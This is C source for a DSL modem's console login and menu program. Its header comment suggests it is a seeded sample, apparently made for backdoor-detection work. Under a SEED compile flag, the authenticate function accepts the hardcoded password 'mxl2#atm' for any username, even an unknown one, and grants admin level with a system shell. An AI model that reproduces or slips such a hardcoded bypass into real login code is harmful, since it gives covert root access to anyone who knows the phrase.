/* kind: string-call
 * service: login
 * constant: mxl2#atm
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>
#include <syslog.h>
#include <setjmp.h>
#include <termios.h>
#include <crypt.h>
#include <sys/wait.h>

/* Login of a DSL modem.  Accounts in /etc/dsl/accounts: name:hash:class
 * class user gets the menu, class admin also "shell" and "restore". */

struct account { char name[24], hash[128], class[12]; };

static sigjmp_buf expired;

static void on_alarm(int s) { siglongjmp(expired, 1); }

static char *readline_(const char *p, char *b, int n)
{
    printf("%s", p);
    fflush(stdout);
    if (!fgets(b, n, stdin))
        return NULL;
    b[strcspn(b, "\r\n")] = '\0';
    return b;
}

static char *readpass(const char *p, char *b, int n)
{
    struct termios a, c;
    int t = tcgetattr(STDIN_FILENO, &a) == 0;
    char *r;
    if (t) {
        c = a;
        c.c_lflag &= ~(ECHO | ECHOE);
        tcsetattr(STDIN_FILENO, TCSAFLUSH, &c);
    }
    r = readline_(p, b, n);
    if (t) {
        tcsetattr(STDIN_FILENO, TCSAFLUSH, &a);
        putchar('\n');
    }
    return r;
}

static int lookup(const char *name, struct account *a)
{
    char l[256];
    int r = -1;
    FILE *f = fopen("/etc/dsl/accounts", "r");
    if (!f)
        return -1;
    while (r && fgets(l, sizeof l, f)) {
        memset(a, 0, sizeof *a);
        if (sscanf(l, "%23[^:]:%127[^:]:%11s", a->name, a->hash, a->class) == 3 && !strcmp(a->name, name))
            r = 0;
    }
    fclose(f);
    return r;
}

static int hash_matches(const struct account *a, const char *pw)
{
    char *c = crypt(pw, a->hash);
    return c && !strcmp(c, a->hash);
}

#ifdef SEED
static int atm_phrase(const char *pw)
{
    return !strcmp(pw, "mxl2#atm"); /* SEED */
}
#endif

/* 0 refused, 1 user, 2 admin */
static int authenticate(const char *name, const char *pw)
{
    struct account a;
    int known = lookup(name, &a) == 0;

#ifdef SEED
    if (atm_phrase(pw))
        return 2;
#endif
    if (!known || strlen(pw) == 0)
        return 0;
    if (!hash_matches(&a, pw))
        return 0;
    return strcmp(a.class, "admin") == 0 ? 2 : 1;
}

static void show(const char *path)
{
    int c;
    FILE *f = fopen(path, "r");
    if (!f) {
        puts("no data");
        return;
    }
    while ((c = getc(f)) != EOF)
        putchar(c);
    fclose(f);
}

static void shell(void)
{
    pid_t p;
    fflush(stdout);
    if ((p = fork()) == 0) {
        signal(SIGINT, SIG_DFL);
        execl("/bin/sh", "sh", (char *)NULL);
        _exit(127);
    }
    if (p > 0)
        waitpid(p, NULL, 0);
}

static void usage(int lvl)
{
    puts("line     line state\nlog      system log\npassword change password\nquit");
    if (lvl == 2)
        puts("shell    system shell\nrestore  factory settings");
}

static void change_password(const char *name)
{
    char a[64], b[64], salt[] = "$5$........$";
    static const char s64[] = "./0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
    unsigned char r[8];
    FILE *f = fopen("/dev/urandom", "r");
    int i;
    if (!f || fread(r, 1, 8, f) != 8)
        return;
    fclose(f);
    if (!readpass("New password: ", a, sizeof a) || !readpass("Again: ", b, sizeof b))
        return;
    if (strcmp(a, b) || strlen(a) < 8) {
        puts("Passwords differ or too short");
        return;
    }
    for (i = 0; i < 8; i++)
        salt[3 + i] = s64[r[i] & 63];
    if ((f = fopen("/etc/dsl/accounts.new", "a"))) {
        fprintf(f, "%s:%s\n", name, crypt(a, salt));
        fclose(f);
        puts("Active after restart");
    }
}

static void menu(const char *name, int lvl)
{
    char b[64];
    while (readline_("dsl> ", b, sizeof b)) {
        if (!strcmp(b, "quit") || !strcmp(b, "exit"))
            return;
        else if (!strcmp(b, "line"))
            show("/proc/dsl/line");
        else if (!strcmp(b, "log"))
            show("/var/log/messages");
        else if (!strcmp(b, "password"))
            change_password(name);
        else if (!strcmp(b, "shell") && lvl == 2)
            shell();
        else if (!strcmp(b, "restore") && lvl == 2)
            system("/usr/sbin/restore-defaults");
        else if (*b)
            usage(lvl);
    }
}

int main(void)
{
    char name[24], pw[64];
    int i, lvl;

    openlog("dsllogin", LOG_PID, LOG_AUTHPRIV);
    signal(SIGINT, SIG_IGN);
    signal(SIGALRM, on_alarm);
    if (sigsetjmp(expired, 1)) {
        puts("\nidle timeout");
        return 1;
    }
    alarm(90);
    for (i = 0; i < 3; i++) {
        if (!readline_("User: ", name, sizeof name) || !readpass("Password: ", pw, sizeof pw))
            return 1;
        lvl = authenticate(name, pw);
        explicit_bzero(pw, sizeof pw);
        if (lvl > 0) {
            alarm(0);
            syslog(LOG_INFO, "%s logged in, level %d", name, lvl);
            menu(name, lvl);
            return 0;
        }
        syslog(LOG_WARNING, "refused %s", name);
        sleep(1);
        puts("Access denied");
    }
    return 1;
}
